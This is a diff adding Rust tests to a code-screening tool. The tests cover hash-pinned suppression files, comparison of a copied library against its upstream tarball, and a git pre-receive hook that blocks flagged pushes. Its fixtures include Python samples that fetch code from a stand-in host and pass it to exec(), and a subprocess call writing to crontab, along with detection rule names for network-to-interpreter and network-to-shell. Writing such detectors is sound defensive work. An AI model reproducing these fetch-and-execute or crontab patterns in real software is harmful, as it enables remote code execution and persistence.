@@ -3,6 +3,7 @@
 use std::io::Write as _;
 use std::path::Path;
 
+use bitcoin::hashes::{Hash as _, sha256};
 use serde_json::Value;
 
 use crate::command::Desk;
@@ -386,4 +387,114 @@ fn a_repository_that_is_broken_or_not_whole_is_listed() {
     let has = |file: &str, why: &str| all.iter().any(|(f, w)| f == file && w == why);
     assert!(has(".git!/refs/heads/main/lib", "a submodule that is not here"), "{all:?}");
     assert!(has(".git!/refs/heads/main/away", "a link that leads out"), "{all:?}");
+}
+
+#[test]
+fn what_was_looked_at_is_suppressed_as_long_as_it_is_the_same() {
+    let desk = Desk::new();
+    let fetch =
+        "import requests\ndef get():\n    return requests.get('https://a.invalid/x').text\n";
+    let run = "from get import get\nexec(get())\n";
+    put(&desk, &[("t/get.py", fetch), ("t/run.py", run)]);
+    let sha256 = |text: &str| sha256::Hash::hash(text.as_bytes()).to_string();
+    let entry = |path: &str, text: &str| {
+        format!(
+            "- path: {path}\n  rule: network-to-interpreter\n  sha256: {}\n  why: seen\n",
+            sha256(text)
+        )
+    };
+    let both = format!("{}{}", entry("get.py", fetch), entry("run.py", run));
+    desk.write("both.yaml", &both);
+    desk.write("one.yaml", entry("run.py", run));
+    let found = desk.ok("screen t --suppress both.yaml");
+    assert_eq!(found["findings"], serde_json::json!([]));
+    assert_eq!(found["suppressed"][0]["file"], "run.py");
+    assert!(found.get("hashes").is_none());
+    // A file of its way that nobody looked at; another byte; other rules.
+    assert_eq!(desk.run("screen t --suppress one.yaml").0, 10);
+    put(&desk, &[("t/get.py", &fetch.replace("/x", "/y"))]);
+    assert_eq!(desk.run("screen t --suppress both.yaml").0, 10);
+    // A file that says less than all is no file of suppressions.
+    for bad in [
+        "- path: a\n  rule: network-to-shell\n  why: x\n".to_owned(),
+        both.replace("network-to-interpreter", "no-such-rule"),
+        both.replace("why: seen", "why: ''"),
+        both.replace("sha256: ", "sha256: 0"),
+        both.replace("why: seen", "why: seen\n  until: 2030"),
+        "{".to_owned(),
+    ] {
+        desk.write("bad.yaml", &bad);
+        assert_eq!(desk.run("screen t --suppress bad.yaml").0, 2, "{bad}");
+    }
+    assert_eq!(desk.run("screen t --suppress none.yaml").0, 2);
+}
+
+#[test]
+fn beside_its_upstream_only_what_differs_is_told() {
+    let desk = Desk::new();
+    let odd = "import subprocess\nsubprocess.run('crontab -', shell=True)\n";
+    let own: [(&str, &[u8]); 3] = [
+        ("lib-1/lib/run.py", BAD.as_bytes()),
+        ("lib-1/lib/odd.unknown", b"\x01\x02"),
+        ("lib-1/setup.py", GOOD.as_bytes()),
+    ];
+    desk.write("lib.tar.gz", tar_gz(&own));
+    for (name, bytes) in own {
+        let text = String::from_utf8(bytes.to_vec()).unwrap();
+        put(&desk, &[(&name.replace("lib-1/", "copy/"), &text)]);
+    }
+    assert_eq!(desk.run("screen copy").0, 10);
+    let found = desk.ok("screen copy --upstream lib.tar.gz");
+    assert_eq!(
+        found["upstream"],
+        serde_json::json!({"same": 3, "changed": [], "added": [], "missing": []})
+    );
+    // What was put in is told, and so is a way over it.
+    put(&desk, &[("copy/setup.py", odd)]);
+    let (code, found) = desk.run("screen copy --upstream lib.tar.gz");
+    assert_eq!((code, &found["upstream"]["changed"]), (11, &serde_json::json!(["setup.py"])));
+    assert!(found["findings"].as_array().unwrap().iter().all(|f| f["file"] == "setup.py"));
+    // The same bytes at another place are another thing.
+    put(&desk, &[("copy/setup.py", GOOD), ("copy/conftest.py", BAD)]);
+    assert_eq!(desk.run("screen copy --upstream lib.tar.gz").0, 10);
+    assert_eq!(desk.run("screen copy --upstream nothing").0, 2);
+}
+
+#[test]
+fn the_recipe_for_a_server_refuses_what_would_be_blocked() {
+    let desk = Desk::new();
+    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/screening.md");
+    let docs = std::fs::read_to_string(docs).unwrap();
+    let lines =
+        docs.lines().skip_while(|l| *l != "    #!/bin/sh").take_while(|l| l.starts_with("    "));
+    let hook: String = lines.map(|l| format!("{}\n", &l[4..])).collect();
+    assert!(hook.ends_with("exit \"$status\"\n"), "{hook}");
+    git(&desk.dir, "init -q --bare server");
+    let path = desk.dir.join("server/hooks/pre-receive");
+    let exe = Path::new(env!("CARGO_BIN_EXE_countersign")).parent().unwrap();
+    let hook = hook.replacen('\n', &format!("\nPATH={}:$PATH\n", exe.display()), 1);
+    std::fs::write(&path, hook).unwrap();
+    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let dir = desk.dir.join("work");
+    put(&desk, &[("work/main.py", GOOD)]);
+    git(&dir, "init -q -b main .");
+    git(&dir, "add .");
+    git(&dir, "commit -q -m one");
+    git(&dir, "push -q ../server main");
+    // What a pushed file says is to be left out of archives is looked at too.
+    put(&desk, &[("work/bad.py", BAD), ("work/.gitattributes", "bad.py export-ignore\n")]);
+    git(&dir, "add .");
+    git(&dir, "commit -q -m two");
+    let push = std::process::Command::new("git")
+        .args(["push", "-q", "../server", "main", "main:other"])
+        .current_dir(&dir)
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&push.stderr).into_owned();
+    assert!(!push.status.success() && said.contains("bad.py:2"), "{said}");
+    let server = desk.dir.join("server");
+    assert_eq!(git(&server, "for-each-ref").lines().count(), 1);
+    assert_eq!(git(&server, "rev-parse main"), git(&dir, "rev-parse main~1"));
+    // Taking a branch away is nobody's flow.
+    git(&dir, "push -q ../server :main");
 }
